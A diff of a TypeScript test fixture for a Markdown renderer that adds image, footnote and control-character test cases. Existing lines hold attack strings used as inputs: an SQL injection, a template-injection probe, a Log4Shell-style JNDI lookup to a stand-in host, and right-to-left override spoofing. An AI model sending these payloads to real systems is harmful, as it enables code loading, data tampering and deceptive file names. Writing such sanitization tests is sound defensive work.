@@ -27,6 +27,9 @@ const BLOCKS: Readonly<Record<string, string>> = {
   figure: '![Login page](/attachments/a.png)',
   figureBetween: 'Look ![](/attachments/a.png) closer',
   linkedFigure: '[![Login](/attachments/a.png)](https://a.example/x)',
+  figureInCell: '| a | b |\n|---|---|\n| ![Login](/attachments/a.png) | see ![](/attachments/b.png) |',
+  figureInHeading: '## Look ![Login](/attachments/a.png)',
+  sizedFigure: '![Login|20](/attachments/a.png)',
   lostFigure: '![Gone](/attachments/gone.png) ![](https://evil.example/x.png)',
   fileNames: '![shot.png](/attachments/a.png)\n\n![anh-chup-20261126-111547](/attachments/b.png)',
 };
@@ -49,6 +52,7 @@ const LINES: Readonly<Record<string, string>> = {
   redacted: 'before ⟦secret⟧ after `⟦token⟧` **⟦bold⟧**',
   marked: '`⟪hot⟫` and ⟪words⟫',
   footnotes: 'one[^a] two[^b] again[^a]\n\n[^a]: First note.\n\n[^b]: Second `note`.',
+  noteAlone: '[^only]\n\n[^only]: A note.',
   escaped: '\\*not soft\\* 1\\. \\# \\| \\`',
   signs: '# no heading? #hash $money$ @label <label> "quotes" \'single\' — … ®',
   vietnamese: 'Lỗ hổng cho phép đọc dữ liệu của người khác — nghiêm trọng',
@@ -56,6 +60,8 @@ const LINES: Readonly<Record<string, string>> = {
   payload: "' OR 1=1 -- and {{7*7}} and $" + '{jndi:ldap://a.example/x}',
   controls: 'a\u0003b\u001b[31mred\u007f and \u202eback',
   controlsInCode: '```\na\u0003b\u001b[31mred\u007f and \u202eback\n```',
+  referredControls: 'a&#3;b&#x1b;[31mred and &#x202e;back `&#x202e;`',
+  controlAfterBackslash: 'C:\\\u202egpj and \\\u001b[0m',
   nested: '**bold *both `code` both* bold**',
   longWord: 'x'.repeat(400),
 };
